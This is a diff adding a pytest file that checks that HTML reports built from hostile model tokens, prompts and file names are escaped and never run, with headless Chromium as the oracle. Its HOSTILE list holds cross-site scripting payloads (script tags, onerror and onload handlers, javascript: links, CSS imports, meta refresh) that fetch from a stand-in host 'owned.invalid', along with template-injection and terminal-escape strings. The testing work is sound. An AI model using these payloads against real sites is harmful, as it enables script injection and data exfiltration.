@@ -1,0 +1,123 @@
+"""Pages in a real browser: what a token, a label, a prompt or a file name says is shown, and never run or fetched.
+
+Oracle: Chromium. Every hostile text tries to change the title, to mark the document and to fetch from a host; what the
+browser shows after its scripts have run is looked at, and the log of its network.
+"""
+
+from __future__ import annotations
+
+import html
+import re
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from tests import checkpoints
+from theodolite.cli import app
+
+BROWSER = next(
+    (found for name in ("chromium", "chromium-browser", "google-chrome") if (found := shutil.which(name))),
+    None,
+)
+HOST = "owned.invalid"
+SCRIPT = f"document.title='owned';document.documentElement.dataset.owned=1;fetch('http://{HOST}/f')"
+HOSTILE = [
+    f"<script>{SCRIPT}</script>",
+    f"</script><script>{SCRIPT}</script>",
+    f"--><script>{SCRIPT}</script>",
+    f'<img src="http://{HOST}/i" onerror="{SCRIPT}">',
+    f'"><svg onload="{SCRIPT}">',
+    f'<iframe src="javascript:{SCRIPT}"></iframe>',
+    f'<a href="javascript:{SCRIPT}" autofocus onfocus="{SCRIPT}">x</a>',
+    f"<style>@import 'http://{HOST}/s';</style>",
+    f'<meta http-equiv="refresh" content="0;url=http://{HOST}/m">',
+    f"<base href='http://{HOST}/b/'>",
+    "{{ 7 * 7 }}{% raw %}",
+    "%{customdata[0]}<extra></extra>",
+    f"$\\href{{javascript:{SCRIPT}}}{{x}}$",
+    "\u202edesrever\u202c",
+    "a\u2028b\u2029c",
+    "\x07\x1b]0;owned\x07\x9b31m",
+    "\ufffe\uffff",
+]
+
+
+@pytest.fixture(scope="module")
+def hostile_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A model some of whose tokens are the hostile texts."""
+    folder = checkpoints.write("gpt2", tmp_path_factory.mktemp("hostile") / "model")
+    tokenizer = checkpoints.byte_tokenizer()
+    assert len(tokenizer) + len(HOSTILE) <= checkpoints.VOCABULARY
+    tokenizer.add_tokens(HOSTILE)
+    tokenizer.save_pretrained(folder)
+    return folder
+
+
+@pytest.fixture(scope="module")
+def pages(hostile_model: Path, tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
+    """The pages of a survey, a trace and a figure of a prompt, on hostile text, labels and names."""
+    root = tmp_path_factory.mktemp("pages")
+    texts = root / '<img src=x onerror="document.title=1">'
+    texts.mkdir()
+    for number, text in enumerate(HOSTILE):
+        (texts / f"<script>document.title={number}<.txt").write_text(f"{text} and {text}. " * 3)
+    reading = ("--corpus", texts, "--length", 24, "--contexts", 24)
+    prompt = ("--prompt", " ".join(HOSTILE), "--layer", 0, "--head", 0)
+    for words in (
+        ("survey", hostile_model, *reading, "--out", root / "survey"),
+        ("trace", hostile_model, *reading, "--out", root / "trace"),
+        ("reproduce", "sinks/figure2", hostile_model, *prompt, "--out", root / "prompt"),
+    ):
+        result = CliRunner().invoke(app, [str(word) for word in words])
+        assert result.exit_code == 0, result.output
+    return sorted(root.rglob("index.html"))
+
+
+def shown(page: Path, folder: Path) -> tuple[str, str]:
+    """The document after its scripts have run, and the log of the network."""
+    log = folder / "net.json"
+    options = [
+        "--headless",
+        "--no-sandbox",
+        "--disable-gpu",
+        "--disable-background-networking",
+        "--no-first-run",
+    ]
+    options += ["--disable-component-update", "--disable-sync", "--virtual-time-budget=3000", "--dump-dom"]
+    command = [
+        str(BROWSER),
+        *options,
+        f"--log-net-log={log}",
+        f"--user-data-dir={folder / 'profile'}",
+        page.as_uri(),
+    ]
+    done = subprocess.run(command, capture_output=True, timeout=120, check=True)
+    return done.stdout.decode("utf-8", "replace"), log.read_text(encoding="utf-8", errors="replace")
+
+
+@pytest.mark.skipif(BROWSER is None, reason="no browser is installed")
+def test_what_a_token_says_is_not_run(pages: list[Path], tmp_path: Path) -> None:
+    assert len(pages) >= 4
+    for page in pages:
+        title = re.search(r"<title>(.*?)</title>", page.read_text(encoding="utf-8"), re.S)
+        assert title is not None
+        document, log = shown(page, tmp_path)
+        after = re.search(r"<title>(.*?)</title>", document, re.S)
+        assert after is not None, page
+        assert html.unescape(after[1]) == html.unescape(title[1]), page
+        assert "data-owned" not in document.partition(">")[0] + document.partition("<head")[0], page
+        assert HOST not in log, page
+
+
+@pytest.mark.skipif(BROWSER is None, reason="no browser is installed")
+def test_this_browser_would_run_it(tmp_path: Path) -> None:
+    """The test above can fail: the same text in a page without our escapes is run, and fetched."""
+    page = tmp_path / "page.html"
+    page.write_text(f"<!doctype html><title>plain</title><body>{HOSTILE[0]}</body>")
+    document, log = shown(page, tmp_path)
+    assert "<title>owned</title>" in document
+    assert "data-owned" in document
+    assert HOST in log
